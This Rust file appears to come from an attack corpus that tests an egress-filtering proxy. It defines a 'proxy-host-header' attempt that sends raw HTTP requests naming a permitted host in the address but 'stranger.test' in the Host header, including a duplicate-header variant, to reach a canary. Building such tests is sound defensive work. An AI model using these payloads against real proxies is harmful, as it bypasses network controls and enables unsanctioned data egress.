//! Names one host in the address and another in the header.
//!
//! To a canary.

use crate::corpus::prelude::*;
use crate::corpus::request;

pub(crate) const ATTACK: Attack = Attack::new(
    "proxy-host-header",
    Family::TalkingOut,
    Guard::EgressStrictParse,
    attempt,
)
.gains("reaches another host behind the address of a permitted one, by plain HTTP")
.behind_the_proxy();

fn attempt(stage: &Stage) -> Outcome {
    let host = request::permitted(stage);
    let nonce = &stage.nonce;
    let heads = [
        format!("GET http://{host}/{nonce} HTTP/1.1\r\nHost: stranger.test\r\n\r\n"),
        format!(
            "GET http://{host}/{nonce} HTTP/1.1\r\nHost: {host}\r\nHost: stranger.test\r\n\r\n"
        ),
    ];
    Outcome::best(heads.into_iter().map(|head| request::raw(head.as_bytes())))
}
